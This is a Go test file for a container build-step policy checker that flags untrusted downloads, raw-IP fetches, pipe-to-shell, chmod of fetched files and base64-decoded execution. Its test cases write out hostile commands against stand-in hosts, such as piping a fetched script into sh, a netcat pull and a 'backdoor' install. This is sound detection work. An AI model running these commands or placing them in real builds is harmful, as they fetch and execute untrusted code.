package policy

import (
	"fmt"
	"strings"
	"testing"
)

func trustedForTest(t testing.TB) Sources {
	s, err := ParseSources([]string{"deb.debian.org", "*.github.com", "10.0.0.0/8", "proxy.golang.org", "pypi.org", "registry.npmjs.org", "dl-cdn.alpinelinux.org"})
	if err != nil {
		t.Fatal(err)
	}
	return s
}

// brief renders findings as "kind host" for comparison.
func brief(fs []StepFinding) string {
	var out []string
	for _, f := range fs {
		out = append(out, strings.TrimSpace(string(f.Kind)+" "+f.Host))
	}
	return strings.Join(out, ", ")
}

func TestAnalyzeStep(t *testing.T) {
	tests := []struct {
		step string
		want string
	}{
		// Nothing to see.
		{"/bin/sh -c #(nop)  ADD file:0a1b2c in / ", ""},
		{"/bin/sh -c #(nop)  CMD [\"sh\"]", ""},
		{"COPY . /app # buildkit", ""},
		{"ENV URL=http://203.0.113.9/x", ""},
		{"LABEL org.opencontainers.image.source=https://evil.example/repo", ""},
		{"WORKDIR /app # buildkit", ""},
		{"RUN /bin/sh -c apt-get update && apt-get install -y curl wget # buildkit", ""},
		{"RUN /bin/sh -c curl --version # buildkit", ""},
		{"RUN /bin/sh -c go build -o /app ./cmd/app # buildkit", ""},
		{"RUN /bin/sh -c chmod +x /app/entrypoint.sh # buildkit", ""},
		{"RUN /bin/sh -c tar -xzf app.tar.gz && rm app.tar.gz # buildkit", ""},
		// Downloads from trusted sources are fine.
		{"RUN /bin/sh -c curl -fsSL https://deb.debian.org/debian/pool/x.deb -o /tmp/x.deb # buildkit", ""},
		{"RUN /bin/sh -c wget http://10.1.2.3/x.tgz # buildkit", ""},
		{"RUN /bin/sh -c git clone https://api.github.com/acme/repo # buildkit", ""},
		{"RUN /bin/sh -c go install golang.org/x/tools/cmd/goimports@latest # buildkit", "untrusted-download golang.org"},
		// Untrusted downloads.
		{"RUN /bin/sh -c wget -q http://203.0.113.9/payload -O /usr/bin/p && chmod +x /usr/bin/p # buildkit",
			"raw-ip-download 203.0.113.9, chmod-fetched 203.0.113.9"},
		{"/bin/sh -c apt-get update && curl -fsSL http://1.2.3.4:8080/p.sh | sh", "raw-ip-download 1.2.3.4, pipe-to-shell 1.2.3.4"},
		{"RUN |2 A=1 B=2 /bin/sh -c curl -o /tmp/x https://evil.example/x # buildkit", "untrusted-download evil.example"},
		{"ADD https://evil.example/f.tar.gz /tmp/ # buildkit", "untrusted-download evil.example"},
		{"/bin/sh -c #(nop) ADD http://203.0.113.9/x.tgz /opt/", "raw-ip-download 203.0.113.9"},
		{"ADD --chmod=755 http://203.0.113.9/tool /usr/local/bin/tool # buildkit", "raw-ip-download 203.0.113.9, chmod-fetched 203.0.113.9"},
		{"ADD --chmod=644 https://github.com/acme/x/README /r # buildkit", "untrusted-download github.com"},
		{`RUN ["/bin/sh","-c","curl -s http://203.0.113.7/a | bash"]`, "raw-ip-download 203.0.113.7, pipe-to-shell 203.0.113.7"},
		{`RUN ["curl","-O","http://203.0.113.7/a"]`, "raw-ip-download 203.0.113.7"},
		{"RUN --mount=type=cache,target=/root/.cache /bin/sh -c pip install https://evil.example/pkg.whl # buildkit", "untrusted-download evil.example"},
		{"RUN /bin/sh -c pip install --index-url http://198.51.100.4/simple flask # buildkit", "raw-ip-download 198.51.100.4"},
		{"RUN /bin/sh -c pip install git+https://git.evil.example/x.git # buildkit", "untrusted-download git.evil.example"},
		{"RUN /bin/sh -c python3 -m pip install -i https://pypi.org/simple requests # buildkit", ""},
		{"RUN /bin/sh -c npm install --registry=http://203.0.113.5:4873 left-pad # buildkit", "raw-ip-download 203.0.113.5"},
		{"RUN /bin/sh -c npm install https://evil.example/p.tgz # buildkit", "untrusted-download evil.example"},
		{"RUN /bin/sh -c git clone git@git.evil.example:org/repo.git /src # buildkit", "untrusted-download git.evil.example"},
		{"RUN /bin/sh -c apk add --repository http://203.0.113.8/alpine/edge/main foo # buildkit", "raw-ip-download 203.0.113.8"},
		{"RUN /bin/sh -c go install evil.example/backdoor@v1.0.0 # buildkit", "untrusted-download evil.example"},
		{"RUN /bin/sh -c curl http://3232235521/x -o /x # buildkit", "raw-ip-download 192.168.0.1"},
		{"RUN /bin/sh -c curl http://0x7f000001/x # buildkit", "raw-ip-download 127.0.0.1"},
		{"RUN /bin/sh -c curl http://user:pw@[2001:db8::1]:8080/x # buildkit", "raw-ip-download 2001:db8::1"},
		{"RUN /bin/sh -c wget 203.0.113.9/payload # buildkit", "raw-ip-download 203.0.113.9"},
		{"RUN /bin/sh -c curl http://EVIL.example./x # buildkit", "untrusted-download evil.example"},
		{"RUN /bin/sh -c sudo -E curl -sLo /usr/local/bin/k http://203.0.113.9/k && sudo chmod 0755 /usr/local/bin/k # buildkit",
			"raw-ip-download 203.0.113.9, chmod-fetched 203.0.113.9"},
		{"RUN /bin/sh -c curl -sSL http://203.0.113.9/k > /usr/bin/k && chmod a+x /usr/bin/k # buildkit",
			"raw-ip-download 203.0.113.9, chmod-fetched 203.0.113.9"},
		{"RUN /bin/sh -c curl -sSLO https://evil.example/dl/tool && chmod u+x tool # buildkit",
			"untrusted-download evil.example, chmod-fetched evil.example"},
		{"RUN /bin/sh -c python3 -c \"import urllib.request; urllib.request.urlretrieve('http://203.0.113.2/x', '/x')\" # buildkit", "raw-ip-download 203.0.113.2"},
		{"RUN /bin/sh -c scp root@203.0.113.3:/srv/x /x # buildkit", "raw-ip-download 203.0.113.3"},
		{"RUN /bin/sh -c nc 203.0.113.4 4444 > /tmp/x # buildkit", "raw-ip-download 203.0.113.4"},
		// Running what was fetched or decoded.
		{"RUN /bin/sh -c curl -fsSL https://get.github.com/install.sh | sh # buildkit", "pipe-to-shell get.github.com"},
		{`RUN /bin/sh -c sh -c "$(curl -fsSL https://evil.example/i.sh)" # buildkit`, "untrusted-download evil.example, pipe-to-shell"},
		{"RUN /bin/sh -c bash <(wget -qO- http://203.0.113.9/i) # buildkit", "raw-ip-download 203.0.113.9, pipe-to-shell"},
		{"RUN /bin/sh -c echo Y3VybCBodHRwOi8vMjAzLjAuMTEzLjkveCB8IHNo | base64 -d | sh # buildkit", "base64-exec"},
		{`RUN /bin/sh -c eval "$(echo ZWNobyBoaQ== | base64 --decode)" # buildkit`, "base64-exec"},
		{"RUN /bin/sh -c echo aGk= | base64 -d > /tmp/x # buildkit", ""},
		{"RUN /bin/sh -c curl -s https://evil.example/a \\\n  | python3 # buildkit", "untrusted-download evil.example, pipe-to-shell evil.example"},
		// Malformed input never panics and still finds what it can.
		{`RUN /bin/sh -c curl "http://203.0.113.9/x`, "raw-ip-download 203.0.113.9"},
		{"RUN /bin/sh -c $(((((", ""},
		{"RUN /bin/sh -c '", ""},
	}
	trusted := trustedForTest(t)
	for _, tt := range tests {
		got := AnalyzeStep(tt.step, trusted)
		if brief(got) != tt.want {
			t.Errorf("AnalyzeStep(%q) = %q, want %q", tt.step, brief(got), tt.want)
		}
		for _, f := range got {
			if f.Detail == "" {
				t.Errorf("AnalyzeStep(%q): finding %+v has no detail", tt.step, f)
			}
		}
	}
}

func TestAnalyzeStepDetail(t *testing.T) {
	got := AnalyzeStep("RUN /bin/sh -c wget -q http://203.0.113.9:8080/payload -O /usr/bin/p # buildkit", Sources{})
	want := []StepFinding{{Kind: StepRawIPDownload, Host: "203.0.113.9", URL: "http://203.0.113.9:8080/payload", Detail: "downloads from raw IP 203.0.113.9 with wget"}}
	if fmt.Sprint(got) != fmt.Sprint(want) {
		t.Errorf("AnalyzeStep = %+v, want %+v", got, want)
	}
}

func TestAnalyzeStepBounded(t *testing.T) {
	// A huge, deeply nested step is analysed up to the cap, quickly.
	step := "RUN /bin/sh -c " + strings.Repeat("$(", 20000) + "curl http://203.0.113.9/x" + strings.Repeat(")", 20000)
	_ = AnalyzeStep(step, Sources{})
	step = "RUN /bin/sh -c " + strings.Repeat("curl http://203.0.113.9/x | sh; ", 10000)
	got := AnalyzeStep(step, Sources{})
	// Deduplicated: the download and the pipe, plus at most the URL the
	// 64 KiB cap cut in two.
	if len(got) < 2 || len(got) > 4 {
		t.Errorf("AnalyzeStep(repeated) = %d findings %q, want 2 to 4", len(got), brief(got))
	}
}

func TestSources(t *testing.T) {
	s, err := ParseSources([]string{"deb.debian.org", "*.github.com", "10.0.0.0/8", "192.0.2.7", "[::1]", "2001:db8::/32"})
	if err != nil {
		t.Fatal(err)
	}
	for host, want := range map[string]bool{
		"deb.debian.org": true, "DEB.debian.org.": true, "debian.org": false,
		"api.github.com": true, "a.b.github.com": true, "github.com": false, "evilgithub.com": false,
		"10.2.3.4": true, "11.0.0.1": false, "192.0.2.7": true, "192.0.2.8": false,
		"::1": true, "[::1]": true, "2001:db8::5": true, "::ffff:10.0.0.1": true,
		"0x0a000001": true, "": false, "bad host": false,
	} {
		if got := s.Trusted(host); got != want {
			t.Errorf("Trusted(%q) = %v, want %v", host, got, want)
		}
	}
	for _, bad := range []string{"", "10.0.0.0/33", "registry.acme.internal:5000", "https://x.example", "*.*.example", "a b", "1.2.3.999", "[fe80::1%eth0]"} {
		if _, err := ParseSources([]string{"ok.example", bad}); err == nil || !strings.HasPrefix(err.Error(), "[1] ") {
			t.Errorf("ParseSources(%q) = %v, want an error naming entry [1]", bad, err)
		}
	}
	var zero Sources
	if zero.Trusted("deb.debian.org") {
		t.Error("zero Sources trusts a host")
	}
}
